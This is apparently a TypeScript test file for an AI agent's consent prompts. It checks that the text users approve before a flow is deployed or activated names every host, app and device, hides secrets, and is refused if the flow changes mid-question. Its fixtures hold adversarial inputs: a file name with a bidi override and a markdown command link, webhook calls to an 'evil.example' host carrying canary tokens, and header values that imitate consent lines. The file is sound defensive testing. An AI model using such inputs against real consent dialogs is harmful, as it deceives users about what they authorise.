import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AgentQuestion } from '../../src/agent/ports.ts';
import { flowOf, type MethodStep } from '../support/agentFlows.ts';
import { SERVICE_NAME, type TestAgents, testAgents } from '../support/agents.ts';
import { until } from '../support/until.ts';

const FILE = 'wait.flow.json';
const INPUT = { path: FILE, connection: SERVICE_NAME };
const WAIT: MethodStep = ['flow.wait', { seconds: 1 }];

describe('agentConsent', () => {
  let agents: TestAgents;
  let flowId: string;

  before(async () => {
    agents = await testAgents();
    agents.settings = { ...agents.settings, profile: 'all', connections: [SERVICE_NAME] };
  });
  after(() => agents.stop());

  async function write(path: string, steps: readonly MethodStep[], more: object = {}): Promise<void> {
    const flow = await flowOf(agents.service.client, 'Wait', steps);
    writeFileSync(join(agents.folder, path), JSON.stringify({ ...flow, ...more }));
  }

  function lastQuestion(): AgentQuestion {
    const question = agents.questions.at(-1);
    assert.ok(question);
    return question;
  }

  /** Calls a tool, and changes something after the question was asked and before it is answered. */
  async function callWhile(tool: string, input: object, change: () => Promise<unknown>): Promise<unknown> {
    const asked = agents.questions.length;
    const answer = Promise.withResolvers<boolean>();
    agents.agrees = answer.promise;
    const result = agents.run(tool, input);
    await until('the user is asked', () => agents.questions.length, asked + 1);
    await change();
    answer.resolve(true);
    agents.agrees = true;
    return result;
  }

  const CHANGED = /has changed since the user was asked/;

  it('the text that the user agrees to says what a new flow does, in plain lines', async () => {
    await write('new\u202E\n[x](command:y).flow.json', [
      ['device.launchApp', { platform: 'android', app: 'org.sandbox.form' }],
      ['webhooks.request', { url: 'https://ada:canary-1@api.example/?token=canary-2' }],
    ]);
    agents.agrees = false;
    const path = 'new\u202E\n[x](command:y).flow.json';
    await assert.rejects(agents.call('deploy_flow', { ...INPUT, path }));
    agents.agrees = true;
    const { question, detail } = lastQuestion();
    assert.equal(question, 'Create the flow “Wait” on Example service?');
    const lines = detail.split('\n');
    assert.equal(lines[0], 'From new [x] (command:y).flow.json.');
    assert.ok(lines.includes('It uses these hosts: api.example.'));
    assert.ok(lines.includes('Apps: “org.sandbox.form”.'));
    assert.ok(lines.some(line => line.includes(' trigger “')));
    assert.ok(lines.some(line => line.startsWith('Devices (1): “')));
    assert.doesNotMatch(detail, /canary|\u202E|\]\(/);
  });

  it('the text that the user agrees to names hosts, apps, devices, and changed settings that equal a secret of the flow', async () => {
    const { client } = agents.service;
    const path = 'equal.flow.json';
    const { deviceIds } = (await flowOf(client, 'Wait', [])) as { readonly deviceIds: readonly string[] };
    const devices = (await client.listDevices({ query: { pageSize: 100 } })).value.items ?? [];
    const device = devices.find(({ id }) => deviceIds.includes(id))?.name ?? '';
    const code = 'canary-1';
    const steps: readonly MethodStep[] = [
      ['device.launchApp', { platform: 'android', app: 'org.sandbox.form' }],
      [
        'webhooks.request',
        {
          url: `https://ada:evil.example@evil.example/${code}`,
          headers: {
            ...{ 'X-Auth-Token': device, 'api-key': 'org.sandbox.form', 'X-Vault-Token': 'Recording: ' },
            ...{ 'X-Gitlab-Token': 'hosts: ', 'client-secret': 'Self-healing', password: code },
          },
        },
      ],
    ];
    await write(path, steps, { selfHealingEnabled: false });
    const { flowId } = await agents.call('deploy_flow', { ...INPUT, path });
    const created = lastQuestion().detail;
    for (const line of ['It uses these hosts: evil.example.', 'Apps: “org.sandbox.form”.'])
      assert.ok(created.split('\n').includes(line), created);
    assert.ok(created.includes(`Devices (1): “${device}”.`), created);
    assert.doesNotMatch(created, /canary/);
    await write(path, [...steps, WAIT], { selfHealingEnabled: true });
    await agents.call('deploy_flow', { ...INPUT, path });
    const updated = lastQuestion().detail;
    assert.match(updated, /^It uses these hosts: evil\.example\.$/m);
    assert.match(updated, /^Self-healing: .* → on$/m);
    assert.doesNotMatch(updated, /canary/);
    agents.agrees = false;
    const activate = { ...INPUT, path, executionId: flowId };
    await assert.rejects(agents.call('activate_flow', activate), /declined/);
    agents.agrees = true;
    const { detail } = lastQuestion();
    assert.match(detail, /^It uses these hosts: evil\.example\.$/m);
    assert.ok(detail.includes(`Devices (1): “${device}”.`), detail);
    assert.doesNotMatch(detail, /canary/);
  });

  it('the text that the user agrees to is refused if the file changes between the question and the answer', async () => {
    await write(FILE, [WAIT]);
    const result = await callWhile('deploy_flow', INPUT, () =>
      write(FILE, [WAIT, ['webhooks.request', { url: 'https://evil.example/' }]]),
    );
    assert.match(JSON.stringify(result), CHANGED);
    await write(FILE, [WAIT]);
    flowId = String((await agents.call('deploy_flow', INPUT))['flowId']);
  });

  it('the text that the user agrees to names the host of a webhook that has a description', async () => {
    const { client } = agents.service;
    const hook = { url: 'https://good.example/hook', description: 'Team hook' };
    const { id } = (await client.createWebhook({ body: hook })).value.data;
    const path = 'hook.flow.json';
    await write(path, [['webhooks.notify', { title: 'Done', severity: 'info', webhookId: id }]]);
    agents.agrees = false;
    await assert.rejects(agents.call('deploy_flow', { ...INPUT, path }), /declined/);
    agents.agrees = true;
    assert.match(lastQuestion().detail, /“Team hook” \(good\.example/);
  });

  it('the text that the user agrees to is refused if the flow of the service changes before an update', async () => {
    const params = { flowId };
    await write(FILE, [WAIT, WAIT]);
    const result = await callWhile('deploy_flow', INPUT, () =>
      agents.service.client.updateFlow({ params, body: { description: 'Other' } }),
    );
    assert.match(JSON.stringify(result), CHANGED);
    await agents.call('deploy_flow', INPUT);
  });

  it('the text that the user agrees to says all that an activation does: every device, and settings that only the service has', async () => {
    const { client } = agents.service;
    const devices = (await client.listDevices({ query: { pageSize: 100 } })).value.items ?? [];
    const three = devices.slice(0, 3);
    await write(FILE, [WAIT], { deviceIds: three.map(({ id }) => id) });
    await agents.call('deploy_flow', INPUT);
    const params = { flowId };
    await client.updateFlow({ params, body: { recordingEnabled: true, selfHealingEnabled: true } });
    agents.agrees = false;
    await assert.rejects(agents.call('activate_flow', { ...INPUT, executionId: flowId }), /declined/);
    agents.agrees = true;
    const { detail } = lastQuestion();
    assert.ok(detail.includes(`Devices (3): `));
    for (const { name } of three) assert.ok(detail.includes(`“${name}”`), name ?? '');
    assert.match(detail, /^Recording: the whole run$/m);
    assert.match(detail, /^Self-healing: on$/m);
    assert.match(detail, /^It has 1 step:\n1\. “/m);
  });

  it('the text that the user agrees to is refused if devices, settings, or the trigger change before an activation', async () => {
    const { client } = agents.service;
    const params = { flowId };
    const { data: flow } = (await client.getFlow({ params })).value;
    const triggerId = flow.triggerId ?? '';
    const changes: readonly (() => Promise<unknown>)[] = [
      () => client.updateFlow({ params, body: { selfHealingEnabled: false } }),
      () => client.updateTrigger({ params: { triggerId }, body: { name: 'Another name' } }),
      () => client.updateFlow({ params, body: { deviceIds: [] } }),
    ];
    for (const change of changes) {
      const result = await callWhile('activate_flow', { ...INPUT, executionId: flowId }, change);
      assert.match(JSON.stringify(result), /has changed since the user was asked|is not the same as/);
    }
    assert.equal((await client.getFlow({ params })).value.data.enabled, false);
  });
});
